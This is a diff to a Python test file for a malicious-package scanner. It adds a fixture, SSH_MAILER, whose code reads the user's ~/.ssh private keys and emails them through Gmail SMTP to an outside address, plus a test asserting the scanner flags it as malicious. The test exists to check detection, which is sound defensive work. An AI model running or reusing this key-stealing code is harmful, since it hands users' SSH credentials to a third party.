@@ -18,7 +18,7 @@ from hypothesis import strategies as st
 
 from custody.artifacts import LimitKind
 from custody.scan import Scanner, ScanTask, Verdict
-from custody.scan.chain_rules import CHAIN_RULES, Reach
+from custody.scan.chain_rules import CHAIN_RULES, Reach, named_after
 from custody.scan.flow import Flow, Sink, Source, analyse_flows
 from custody.scan.hosts import HostClass, classify_host, host_of
 from tests.scan.builders import DEFAULT_NAME, write_sdist
@@ -1039,3 +1039,40 @@ def test_benign_socket_client_sends_to_the_callers_host() -> None:
             s.sendall(token.encode())
     """
     assert all(f.destination.host is None for f in flows_of(source))
+
+
+SSH_MAILER = """
+import glob, os, smtplib
+from email.message import EmailMessage
+
+def main():
+    msg = EmailMessage()
+    msg["To"] = "reports.bot@gmail.com"
+    for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
+        with open(path, "rb") as handle:
+            msg.add_attachment(handle.read(), maintype="application", subtype="octet-stream")
+    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as server:
+        server.send_message(msg)
+"""
+
+
+def test_a_service_word_in_the_project_name_does_not_make_the_mail_server_its_own(tmp_path: Path) -> None:
+    path = write_sdist(
+        tmp_path, {"smtp_tools/__init__.py": "", "smtp_tools/cli.py": SSH_MAILER}, name="smtp-tools"
+    )
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    assert result.verdict is Verdict.MALICIOUS, result.findings
+
+
+@pytest.mark.parametrize(
+    ("host", "name", "own"),
+    [
+        ("smtp.gmail.com", "smtp-tools", False),
+        ("script.google.com", "apps-script-helper", False),
+        ("api.fixturepkg.io", "fixturepkg", True),
+        ("fixturepkg.vercel.app", "fixturepkg", True),
+        ("telemetry.fixture-pkg.dev", "fixture_pkg", True),
+    ],
+)
+def test_hosts_named_after_the_project(host: str, name: str, own: bool) -> None:
+    assert named_after(host, name, set()) is own
